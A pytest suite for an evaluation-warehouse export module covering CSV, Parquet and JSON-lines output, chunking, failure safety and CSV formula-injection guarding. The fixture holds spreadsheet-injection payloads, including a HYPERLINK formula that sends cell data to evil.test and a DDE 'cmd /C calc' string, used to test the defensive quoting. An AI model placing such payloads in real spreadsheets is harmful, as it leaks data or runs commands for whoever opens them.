"""Tests of warehouse/export.py: a window of evaluations as CSV, Parquet and JSON lines, read back with DuckDB."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb
import pytest

from stef.models import EVALUATOR_VERSION
from tests.warehouse.monitoring_helpers import day
from warehouse import WarehouseError, connect
from warehouse.export import EXPORT_COLUMNS, TEXT_COLUMNS, export_evaluations

READERS = {"csv": "read_csv", "parquet": "read_parquet", "jsonl": "read_json"}


@pytest.mark.parametrize("export_format", ["csv", "parquet", "jsonl"])
def test_export_writes_every_evaluation_of_the_window(rollout: Path, tmp_path: Path, export_format: str) -> None:
    out = tmp_path / f"evaluations.{export_format}"
    with connect(rollout, read_only=True) as conn:
        expected = conn.execute(
            "SELECT e.run_id, e.status, e.score, r.sql FROM evaluations e LEFT JOIN agent_runs r USING (run_id) "
            "WHERE e.log_date BETWEEN ? AND ? ORDER BY e.log_date, e.agent_id, e.agent_version, e.run_id",
            [day(3), day(4)],
        ).fetchall()
        written = export_evaluations(conn, out, day(3), day(4), EVALUATOR_VERSION, export_format)  # type: ignore[arg-type]
    assert written == len(expected) == 2 * (40 + 41)  # v1 and v2.0 (one parse error a day) on days 3 and 4
    back = duckdb.sql(f"SELECT * FROM {READERS[export_format]}('{out}')")
    assert back.columns == [name for name, _ in EXPORT_COLUMNS]
    assert back.select("run_id, status, score, sql").fetchall() == expected
    (evidence,) = duckdb.sql(f"SELECT evidence FROM {READERS[export_format]}('{out}') LIMIT 1").fetchall()
    assert json.loads(str(evidence[0]))["run_id"]  # the evidence is JSON text


@pytest.mark.parametrize("export_format", ["csv", "parquet", "jsonl"])
def test_an_export_in_many_chunks_is_the_file_of_one(
    rollout: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, export_format: str
) -> None:
    """A 20k-row CSV or JSON lines export (a 100k-row Parquet one) ran out of DuckDB's default 256 MB
    in one COPY: it is written in chunks, with the same rows in the same order and one CSV header."""
    import warehouse.export

    folder = tmp_path / "out"
    folder.mkdir()
    whole, chunked = folder / f"whole.{export_format}", folder / f"chunked.{export_format}"
    with connect(rollout, read_only=True) as conn:
        assert export_evaluations(conn, whole, day(0), day(6), EVALUATOR_VERSION, export_format) > 7  # type: ignore[arg-type]
        monkeypatch.setattr(warehouse.export, "EXPORT_CHUNK_ROWS", 7)
        export_evaluations(conn, chunked, day(0), day(6), EVALUATOR_VERSION, export_format)  # type: ignore[arg-type]
    read = READERS[export_format]
    assert (
        duckdb.sql(f"SELECT * FROM {read}('{chunked}')").fetchall()
        == duckdb.sql(f"SELECT * FROM {read}('{whole}')").fetchall()
    )
    if export_format != "parquet":
        assert chunked.read_bytes() == whole.read_bytes()
    assert sorted(p.name for p in folder.iterdir()) == sorted([whole.name, chunked.name])  # no part file left


def test_a_failed_export_leaves_no_file_and_the_old_one_as_it_was(
    rollout: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A killed export left a cut-off file under the name asked for (16,028 of 20,000 rows)."""
    import warehouse.export

    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "week.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    copies = 0
    real_copy = warehouse.export._copy

    def failing(*args: object, **kwargs: object) -> int:
        nonlocal copies
        copies += 1
        if copies == 3:
            raise duckdb.IOException("disk full")
        return real_copy(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(warehouse.export, "EXPORT_CHUNK_ROWS", 7)
    monkeypatch.setattr(warehouse.export, "_copy", failing)
    with connect(rollout, read_only=True) as conn, pytest.raises(WarehouseError, match="disk full"):
        export_evaluations(conn, out, day(0), day(6), EVALUATOR_VERSION)
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert [p.name for p in out.parent.iterdir()] == ["week.csv"]


def test_export_filters_and_errors(rollout: Path, tmp_path: Path) -> None:
    with connect(rollout, read_only=True) as conn:
        assert export_evaluations(conn, tmp_path / "solo.csv", day(0), day(6), EVALUATOR_VERSION, agent_id="solo") == 5
        assert export_evaluations(conn, tmp_path / "none.csv", day(0), day(6), "another-version") == 0
        with pytest.raises(WarehouseError, match="before its start"):
            export_evaluations(conn, tmp_path / "x.csv", day(6), day(0), EVALUATOR_VERSION)
        with pytest.raises(WarehouseError, match="unknown export format 'xlsx'"):
            export_evaluations(conn, tmp_path / "x.xlsx", day(0), day(6), EVALUATOR_VERSION, "xlsx")  # type: ignore[arg-type]
        with pytest.raises(WarehouseError, match=r"exporting to .* failed"):
            export_evaluations(conn, tmp_path / "missing" / "dir" / "x.csv", day(0), day(6), EVALUATOR_VERSION)
        quoted = tmp_path / "it's.csv"  # a quote in the path stays a path
        assert export_evaluations(conn, quoted, day(6), day(6), EVALUATOR_VERSION) == 40 + 41 + 5
        assert quoted.is_file()


HOSTILE_TEXT = {
    "question": '=HYPERLINK("http://evil.test/?"&A1)',
    "enriched_question": "\r@SUM(A1:A9)",
    "sql": "\tSELECT 1 -- =cmd|' /C calc'!A0",
}
"""Agent-controlled text of the hostile run, each starting with a character a spreadsheet runs."""


@pytest.fixture
def hostile_warehouse(tmp_path: Path) -> Path:
    """A warehouse of day 0: run ``=cmd|' /C calc'!A0-0`` of agent ``+agent`` version ``-v1`` (Φ 80,
    :data:`HOSTILE_TEXT`, judge cost −3.5, latency −2.0) and the plain run ``ok-0``."""
    from tests.support.monitoring_support import answers, store_answers

    path = tmp_path / "hostile.duckdb"
    with connect(path) as conn:
        store_answers(
            conn, day(0), answers("=cmd|' /C calc'!A0", "+agent", "-v1", [80.0]) + answers("ok", "bird", "v1", [70.0])
        )
        hostile = "=cmd|' /C calc'!A0-0"
        conn.execute(
            "UPDATE agent_runs SET question = $question, enriched_question = $enriched_question, sql = $sql, "
            "latency_ms = -2.0 WHERE run_id = $run_id",
            {**HOSTILE_TEXT, "run_id": hostile},
        )
        conn.execute("UPDATE evaluations SET cost_usd = -3.5 WHERE run_id = ?", [hostile])
    return path


def test_csv_export_guards_text_cells_against_formulas_and_keeps_numbers(
    hostile_warehouse: Path, tmp_path: Path
) -> None:
    import csv

    out = tmp_path / "ex.csv"
    with connect(hostile_warehouse, read_only=True) as conn:
        assert export_evaluations(conn, out, day(0), day(0), EVALUATOR_VERSION, "csv") == 2
    with out.open(encoding="utf-8", newline="") as handle:
        rows = {row["run_id"]: row for row in csv.DictReader(handle)}
    assert set(rows) == {"'=cmd|' /C calc'!A0-0", "ok-0"}
    hostile, plain = rows["'=cmd|' /C calc'!A0-0"], rows["ok-0"]
    assert (hostile["agent_id"], hostile["agent_version"]) == ("'+agent", "'-v1")
    for column, text in HOSTILE_TEXT.items():
        assert hostile[column] == "'" + text
    assert (hostile["score"], hostile["judge_cost_usd"], hostile["latency_ms"]) == ("80.0", "-3.5", "-2.0")
    assert hostile["log_date"] == day(0).isoformat() and hostile["status"] == "evaluated"
    assert json.loads(hostile["evidence"])["run_id"] == "=cmd|' /C calc'!A0-0"  # JSON text starts with {: unguarded
    assert (plain["agent_id"], plain["agent_version"], plain["question"]) == (
        "bird",
        "v1",
        "How many orders were placed in 'Region 2'?",
    )
    assert plain["enriched_question"] == ""  # NULL stays an empty cell
    (typed,) = duckdb.sql(
        f"SELECT score, judge_cost_usd, latency_ms FROM read_csv('{out}') WHERE run_id LIKE '''%'"
    ).fetchall()
    assert typed == (80.0, -3.5, -2.0)  # still numbers for a BI tool


@pytest.mark.parametrize("export_format", ["parquet", "jsonl"])
def test_parquet_and_jsonl_exports_keep_text_exact(hostile_warehouse: Path, tmp_path: Path, export_format: str) -> None:
    out = tmp_path / f"ex.{export_format}"
    with connect(hostile_warehouse, read_only=True) as conn:
        export_evaluations(conn, out, day(0), day(0), EVALUATOR_VERSION, export_format)  # type: ignore[arg-type]
    back = duckdb.sql(
        f"SELECT run_id, agent_id, agent_version, question, enriched_question, sql, judge_cost_usd "
        f"FROM {READERS[export_format]}('{out}') ORDER BY run_id"
    ).fetchall()
    assert back[0] == ("=cmd|' /C calc'!A0-0", "+agent", "-v1", *HOSTILE_TEXT.values(), -3.5)


def test_text_columns_are_the_varchar_columns_of_the_export(rollout: Path) -> None:
    columns = ", ".join(f"{expression} AS {name}" for name, expression in EXPORT_COLUMNS)
    with connect(rollout, read_only=True) as conn:
        described = conn.execute(
            f"DESCRIBE SELECT {columns} FROM evaluations AS e LEFT JOIN agent_runs AS r USING (run_id)"
        ).fetchall()
    assert {name for name, kind, *_ in described if kind == "VARCHAR"} == TEXT_COLUMNS


@pytest.mark.parametrize("trailing", ["/", ""])
def test_export_to_a_folder_is_refused_and_writes_nothing(rollout: Path, tmp_path: Path, trailing: str) -> None:
    folder = tmp_path / ("existing" if not trailing else "new")
    if not trailing:
        folder.mkdir()
    out = str(folder) + trailing
    with connect(rollout, read_only=True) as conn, pytest.raises(WarehouseError) as caught:
        export_evaluations(conn, out, day(0), day(6), EVALUATOR_VERSION)
    assert str(caught.value) == (f"export output {out} is a folder; pass a file name, e.g. {folder}/evaluations.csv")
    assert folder.is_dir() if not trailing else not folder.exists()


def test_the_sql_guard_of_the_export_matches_the_python_guard_of_review_sample() -> None:
    from stef.display import spreadsheet_text, spreadsheet_text_sql

    texts = ["=1", "'=1", "''+1", "'", "'a", "a", "\t1", "'\r", "@x", "-", "", "a=1", "é=", "'''"]
    texts += [" =1", "  +1", "\n-1", "\u00a0@x", "\u3000=1", "\uff1dcmd", "' \uff0b1", "\x00x", " a", "\n", "x\x00"]
    rows = duckdb.sql(
        f"SELECT t, {spreadsheet_text_sql('t')} FROM (SELECT unnest($texts) AS t)", params={"texts": texts}
    ).fetchall()
    assert dict(rows) == {text: spreadsheet_text(text) for text in texts}
    assert spreadsheet_text("'=1") == "''=1" and spreadsheet_text("'a") == "'a"
    assert spreadsheet_text(" =HYPERLINK(1)") == "' =HYPERLINK(1)" and spreadsheet_text("\uff1dcmd") == "'\uff1dcmd"
    assert spreadsheet_text(" a") == " a" and spreadsheet_text("a =1") == "a =1"
